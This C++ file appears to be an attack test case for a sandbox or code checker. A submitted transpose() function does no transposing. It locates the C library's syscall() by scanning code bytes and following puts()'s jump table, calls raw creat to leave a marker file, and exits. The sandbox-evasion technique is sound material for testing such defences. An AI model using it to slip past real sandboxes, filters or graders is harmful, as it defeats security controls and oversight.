// Graded: 0 stopped|refused|wrong: .
// Attack: names nothing but puts(). Finds the C library's syscall() by the bytes of its code, in a
// static program or through the jump table of a dynamic one; leaves marker_finds_syscall.
#include "transpose.h"
#include <cstdio>

extern "C" const unsigned char __executable_start, etext;
typedef long (*call_t)(long, const char *, long, long);

// mov rax,rdi ... mov r9,[rsp+8]; syscall
static const unsigned char body[] = { 0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6,
                                      0x48, 0x89, 0xca, 0x4d, 0x89, 0xc2, 0x4d, 0x89, 0xc8,
                                      0x4c, 0x8b, 0x4c, 0x24, 0x08, 0x0f, 0x05 };

static call_t find(const unsigned char *from, const unsigned char *end)
{
    for (const unsigned char *at = from; at < end; at++) {
        unsigned same = 0;
        while (same < sizeof body && at[same] == body[same])
            same++;
        if (same == sizeof body)
            return (call_t)at;
    }
    return nullptr;
}

void transpose(const float *in, float *out, int rows, int cols)
{
    call_t call = find(&__executable_start, &etext);
    const unsigned char *p = (const unsigned char *)&puts;

    puts("");   // binds its entry
    if (!call && p[0] == 0xff && p[1] == 0x25) {
        p = *(const unsigned char *const *)(p + 6 + *(const int *)(p + 2));
        call = find(p, p + 0xb0000);
    }
    if (call && call(85, "marker_finds_syscall", 0600, 0) >= 0)   // creat
        exit(99);
}
